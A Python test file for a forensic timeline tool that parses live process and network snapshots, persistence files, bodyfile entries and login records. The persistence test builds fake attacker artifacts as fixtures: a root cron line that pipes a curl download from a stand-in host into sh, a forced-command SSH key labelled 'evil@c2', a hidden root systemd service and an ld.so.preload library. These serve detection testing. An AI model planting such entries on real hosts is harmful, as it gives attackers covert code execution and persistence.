"""Live state rows produced by the collector's own psutil snapshot, persistence files, and the
bodyfile: one event per process, connection, open model file and MACB time."""

import json
import socket
from datetime import UTC, datetime

import pytest
from mlsleuth.parsers import parse_input
from parser_helpers import T0, errors, link, of, put, run, write_archive

from mlsleuth.events import Category, TimestampQuality, from_epoch


@pytest.fixture()
def live_archive(tmp_path):
    live = pytest.importorskip("mlsleuth.collector.live")
    model = tmp_path / "weights.pt"
    model.write_bytes(b"\x80\x02}q\x00.")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    with open(model, "rb"):
        state = live.gather()
    server.close()
    tree = tmp_path / "tree"
    tree.mkdir()
    members = state.members()
    members["live/processes.jsonl"] += b"{broken json\n"
    archive = write_archive(tree, tmp_path / "live.tar.gz", extra_members=members,
                            host={"hostname": "live-01", "timezone": "UTC",
                                  "custody": {"start": "2026-11-10T10:00:00Z", "end": "2026-11-10T10:05:00Z"},
                                  "boot_time": 1762700000})
    return archive, state, model


def test_live_rows_become_events(live_archive):
    archive, state, model = live_archive
    events = list(parse_input(archive))
    procs = of(events, "Process Started")
    assert len(procs) == len(state.processes)
    me = next(e for e in procs if e.extra.get("collector"))
    assert me.timestamp_quality == TimestampQuality.EXACT and me.ppid is not None
    assert isinstance(me.extra["ancestry"], list)
    conns = of(events, category=Category.NETWORK)
    assert len(conns) == len(state.connections)
    assert any(e.timestamp_desc == "Socket Listening" for e in conns)
    assert {e.timestamp for e in conns} == {datetime(2026, 11, 10, 10, tzinfo=UTC)}
    opened = [e for e in of(events, "File Open") if e.file_path == str(model)]
    assert opened and opened[0].extra["model_file"] is True
    assert {e.timestamp_desc for e in of(events, category=Category.HOST)} >= {
        "System Booted", "Collection Started", "Collection Finished"}
    assert any("L" in e.evidence and "not JSON" in e.message for e in errors(events))


def test_persistence_files_and_enabled_units(tmp_path):
    put(tmp_path, "/home/a/.ssh/authorized_keys",
        'ssh-ed25519 AAAAC3Nza alice@laptop\ncommand="/tmp/.x",no-pty ssh-rsa AAAAB3Nz evil@c2\n', mtime=T0)
    put(tmp_path, "/etc/cron.d/update", "SHELL=/bin/sh\n*/5 * * * * root curl -s http://x.example/u | sh\n",
        mtime=T0)
    put(tmp_path, "/etc/systemd/system/ml-sync.service",
        "[Service]\nExecStart=/usr/bin/python3 /opt/.cache/sync.py\nUser=root\n[Install]\nWantedBy=multi-user.target\n",
        mtime=T0)
    link(tmp_path, "/etc/systemd/system/multi-user.target.wants/ml-sync.service",
         "/etc/systemd/system/ml-sync.service", mtime=T0)
    put(tmp_path, "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsneaky.so\n", mtime=T0)
    keys = run(tmp_path, "/home/a/.ssh/authorized_keys", "persistence")
    assert {e.timestamp_desc for e in keys} >= {"File Modified", "File Accessed", "File Metadata Changed"}
    assert "2 key(s)" in keys[0].message and "forced commands" in keys[0].message and keys[0].cmdline == "/tmp/.x"
    cron = run(tmp_path, "/etc/cron.d/update", "persistence")[0]
    assert cron.cmdline == "root curl -s http://x.example/u | sh" and cron.extra["kind"] == "cron"
    unit = run(tmp_path, "/etc/systemd/system/ml-sync.service", "persistence")[0]
    assert unit.cmdline == "/usr/bin/python3 /opt/.cache/sync.py"
    enabled = run(tmp_path, "/etc/systemd/system/multi-user.target.wants/ml-sync.service", "persistence")
    assert len(enabled) == 1 and "enabled" in enabled[0].message and enabled[0].category == Category.PERSISTENCE
    preload = run(tmp_path, "/etc/ld.so.preload", "persistence")[0]
    assert "libsneaky.so" in preload.message


def test_bodyfile_lines_names_with_pipes_and_garbage(tmp_path):
    body = ("0|/home/a/x.pt|12|r/rrw-r--r--|1000|1000|5|1762765200|1762765201|1762765202|0\n"
            "0|/home/a/we|ird|name|13|r/rrw-r--r--|0|0|1|0|1762765300|0|0\n"
            "0|/home/a/l -> /etc/passwd|14|l/lrwxrwxrwx|0|0|11|0|1762765400|0|1762765100\n"
            "garbage line\n")
    put(tmp_path, "/bodyfile.txt", body)
    events = run(tmp_path, "/bodyfile.txt", "bodyfile")
    files = of(events, category=Category.FILE)
    assert [(e.file_path, e.extra["macb"], e.timestamp) for e in files[:3]] == [
        ("/home/a/x.pt", "m", from_epoch(1762765201)), ("/home/a/x.pt", "a", from_epoch(1762765200)),
        ("/home/a/x.pt", "c", from_epoch(1762765202))]
    assert files[3].file_path == "/home/a/we|ird|name"
    assert {e.extra.get("link_target") for e in files[4:]} == {"/etc/passwd"}
    assert "1 line(s) not in bodyfile format" in errors(events)[0].message


def test_osquery_style_users_rows(tmp_path):
    tree = tmp_path / "t"
    tree.mkdir()
    users = json.dumps({"name": "bob", "terminal": "pts/0", "host": "198.51.100.7", "started": 1762765000.0})
    archive = write_archive(tree, tmp_path / "u.tar.gz", extra_members={"live/users.jsonl": users.encode()})
    login = of(list(parse_input(archive)), "User Logged In")[0]
    assert login.user == "bob" and login.remote_addr == "198.51.100.7"
